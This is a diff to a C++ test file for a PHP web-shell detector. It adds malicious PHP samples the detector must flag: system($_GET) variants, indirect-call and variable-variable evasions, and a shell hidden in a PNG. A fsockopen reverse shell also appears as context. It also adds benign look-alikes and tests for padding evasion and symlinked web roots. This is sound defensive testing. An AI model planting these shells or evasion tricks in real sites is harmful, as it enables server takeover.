@@ -82,6 +82,13 @@ TEST(ShellJudge, FindsEachWayAShellRunsWhatTheRequestSays) {
       {"<?php $s = fsockopen($_GET['h'], 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
        "network connection"},
       {"<?php if ($cmd) { system($cmd); }", "register_globals"},
+      // What the attack review got past the first version:
+      {"<?php \\system($_GET['c']);", "command execution"},
+      {"<?php system(filter_input(INPUT_GET, 'c'));", "command execution"},
+      {"<?php $f = 'system'; call_user_func($f, $_GET['c']);", "holding a sink's name"},
+      {"<?php $c = getenv('HTTP_X_CMD'); system($c);", "command execution"},
+      {"<?php function h() { return $_GET['c']; } system(h());", "command execution"},
+      {"<?php $g = '_GET'; system($$g['c']);", "command execution"},
   };
   for (const auto& [code, why] : shells) {
     ShellVerdict v = judge_php(code, "x.php");
@@ -112,11 +119,32 @@ TEST(ShellJudge, LeavesAlonePhpThatOnlyLooksDangerous) {
            "<?php add_action('init', function () { do_action('x', $_GET['q']); });",
            "<?php $value = apply_filters('the_title', $_POST['title']); echo esc_html($value);",
            "<?php foreach ($widgets as $w) { $w['callback']($w['args']); }",
+           // the attack review's false alarms: escaped arguments, closures, own methods
+           "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');",
+           "<?php $s = $_GET['sort']; usort($items, function ($a, $b) use ($s) { return 0; });",
+           "<?php call_user_func([$this, 'do_' . $_GET['action']]);",
+           "<?php $log = function ($m) { error_log($m . $_GET['page']); }; $log('visit');",
        })
     EXPECT_FALSE(judge_php(code, "x.php").suspect()) << code;
 }
 
 // The DEV corpus (../shared/corpus/webshell): real shells and backdoors.
+TEST(ShellJudge, WhatCannotBeJudgedWholeIsNotLetThrough) {
+  // Padding past the token budget, or code built to make the judgement too costly: suspects.
+  ShellVerdict padded =
+      judge_php("<?php " + std::string(450000, ';') + " system($_GET['c']);", "x.php");
+  EXPECT_TRUE(padded.truncated);
+  EXPECT_TRUE(padded.suspect());
+  std::string costly = "<?php ";
+  for (int i = 0; i < 60000; ++i) costly += "$a=";
+  costly += "1;";
+  ShellVerdict v = judge_php(costly, "x.php");
+  EXPECT_TRUE(v.suspect());
+  bool said = false;
+  for (const auto& s : v.signals) said = said || s.what.find("too costly") != std::string::npos;
+  EXPECT_TRUE(said);
+}
+
 TEST(ShellJudge, FindsTheDevCorpusShells) {
   const fs::path dir = fs::path(MAMORI_SHARED) / "corpus/webshell";
   if (!fs::exists(dir)) GTEST_FAIL() << dir << " is needed (the shared corpora)";
@@ -167,7 +195,7 @@ class WebScanTree : public ::testing::Test {
 TEST_F(WebScanTree, JudgesWhatHoldsPhpAndTrustsWhatIsKnownGood) {
   const std::string shell = "<?php system($_GET['c']);";
   put("var/www/site/wp-content/uploads/2026/cache.php", shell);
-  put("var/www/site/wp-content/uploads/2026/logo.png", "\x89PNG....<?php eval($_POST['x']); ?>");
+  put("var/www/site/wp-content/uploads/2026/logo.png", "\x89PNG....<?PHP eval($_POST['x']); ?>");
   put("var/www/site/index.php", "<?php echo 'hello';");
   put("var/www/site/style.css", "body { color: red }");
   // A shell dpkg shipped unchanged is known good (a package's own admin tool, say) …
@@ -220,6 +248,15 @@ TEST_F(WebScanTree, JudgesWhatHoldsPhpAndTrustsWhatIsKnownGood) {
   EXPECT_EQ(f[0].asset, "file:" + third->suspects[0].path);
   EXPECT_NE(f[0].evidence.find("line 1:"), std::string::npos) << f[0].evidence;
   EXPECT_FALSE(read_wp_checksums((dir_ / "var/www/site/style.css").string()).has_value());
+  // A web root that is itself a link (releases/42 → current) is followed once, to its target.
+  fs::create_symlink("site", dir_ / "var/www/current");  // inside the root: relative
+  WebScanOptions linked;
+  linked.dirs = {"/var/www/current"};
+  linked.use_dpkg = false;
+  auto via_link = web_scan(Root(dir_), linked);
+  ASSERT_TRUE(via_link.has_value());
+  EXPECT_EQ(via_link->suspects.size(), 3u);
+  EXPECT_EQ(via_link->unreadable, 0u);
 }
 
 }  // namespace
